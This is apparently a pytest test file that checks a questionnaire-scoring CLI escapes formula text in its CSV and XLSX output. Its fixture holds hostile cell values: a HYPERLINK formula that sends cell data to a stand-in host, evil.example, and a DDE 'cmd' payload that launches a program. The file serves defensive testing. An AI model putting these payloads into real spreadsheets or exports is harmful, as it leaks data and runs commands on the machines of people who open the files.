"""`outcomes score` writes files that are safe to open in a spreadsheet: no text becomes a formula."""

from __future__ import annotations

import csv

import openpyxl
import pytest
from click.testing import CliRunner

from toolkit.cli import main

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your results")'
ROWS = [
    ("participant", "wave", "site", *[f"gad7_{i}" for i in range(1, 8)]),
    (LINK, "+baseline", "@north", 1, 2, 3, 0, 1, 2, 3),
    ("-2+3+cmd|' /C calc'!A0", "\t=1+1", "-5", 0, 0, 0, 0, 0, 0, 0),
]


@pytest.fixture
def responses(tmp_path):
    """A response file whose identifiers are formulas, as a hostile CSV would carry them."""
    path = tmp_path / "responses.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(ROWS)
    return path


def score(source, out):
    result = CliRunner().invoke(main, ["score", str(source), "--out", str(out)])
    assert result.exit_code == 0, result.output
    return result


def test_xlsx_output_stores_text_as_strings_never_formulas(responses, tmp_path):
    out = tmp_path / "scores.xlsx"
    score(responses, out)
    book = openpyxl.load_workbook(out)
    rows = list(book.active.iter_rows(values_only=False))
    book.close()
    header = [c.value for c in rows[0]]
    cells = {(n, header[i]): cell for n, row in enumerate(rows[1:]) for i, cell in enumerate(row)}
    assert cells[(0, "participant")].value == "'" + LINK and cells[(0, "participant")].data_type == "s"
    assert cells[(0, "wave")].value == "'+baseline"
    assert cells[(1, "participant")].value == "'-2+3+cmd|' /C calc'!A0"
    assert cells[(1, "wave")].value == "'=1+1"  # the tab is stripped on reading; the formula is not
    assert cells[(0, "site")].value == "'@north" and cells[(1, "site")].value == "-5"
    assert all(cell.data_type != "f" for cell in cells.values())
    assert cells[(0, "score")].value == 12 and cells[(0, "score")].data_type == "n"  # numbers stay numbers


def test_csv_output_escapes_formula_text(responses, tmp_path):
    out = tmp_path / "scores.csv"
    score(responses, out)
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "participant,wave,site,instrument,scale,score,band,items_answered,valid,reason"
    assert lines[1].startswith(
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for your results"")",'
        "'+baseline,'@north,gad7,total,12.0,"
    )
    assert lines[2].startswith("'-2+3+cmd|' /C calc'!A0,'=1+1,-5,gad7,total,0.0,")
